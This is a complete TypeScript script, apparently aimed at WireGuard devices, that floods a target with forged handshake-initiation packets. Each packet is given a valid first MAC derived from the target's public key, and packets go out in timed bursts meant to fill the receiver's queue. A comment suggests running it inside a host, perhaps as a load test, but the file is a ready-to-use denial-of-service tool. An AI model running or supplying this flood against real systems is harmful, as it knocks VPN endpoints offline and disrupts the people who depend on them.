/**
 * A stranger that knows the public key of a device and floods it with handshake initiations: run inside a host, as
 * `node flood.js PUBLIC-KEY SOURCE-ADDRESS ADDRESS PORT SECONDS PER-SECOND`. A slow machine sends fewer in a second.
 *
 * Every message is right up to its first MAC, which is all that a stranger can get right (whitepaper §5.3). Ends by itself.
 */
import { randomFillSync } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { setTimeout as pause } from 'node:timers/promises';

import { blake2s } from '@noble/hashes/blake2.js';
import { concatBytes, utf8ToBytes } from '@noble/hashes/utils.js';

const INITIATION_BYTES = 148;
const MAC1_AT = 116;
const MAC_BYTES = 16;
/** Seldom, so that what is due by then is a burst that fills a receiver's queue. */
const TURN_MS = 100;

const [publicKey = '', source = '', address = '', port = '', seconds = '', perSecond = ''] = process.argv.slice(2);
const mac1Key = blake2s(concatBytes(utf8ToBytes('mac1----'), Buffer.from(publicKey, 'base64')));

function initiation(): Uint8Array {
  const message = randomFillSync(new Uint8Array(INITIATION_BYTES));
  message.set([1, 0, 0, 0]);
  message.set(blake2s(message.subarray(0, MAC1_AT), { key: mac1Key, dkLen: MAC_BYTES }), MAC1_AT);
  message.fill(0, MAC1_AT + MAC_BYTES);
  return message;
}

const socket = createSocket('udp4');
await new Promise<void>((resolve) => socket.bind(0, source, resolve));
const endMs = performance.now() + Number(seconds) * 1_000;
const perTurn = Math.ceil((Number(perSecond) * TURN_MS) / 1_000);
while (performance.now() < endMs) {
  for (let i = 1; i < perTurn; i++) socket.send(initiation(), Number(port), address);
  await new Promise((resolve) => socket.send(initiation(), Number(port), address, resolve));
  await pause(TURN_MS);
}
await new Promise<void>((resolve) => socket.close(resolve));
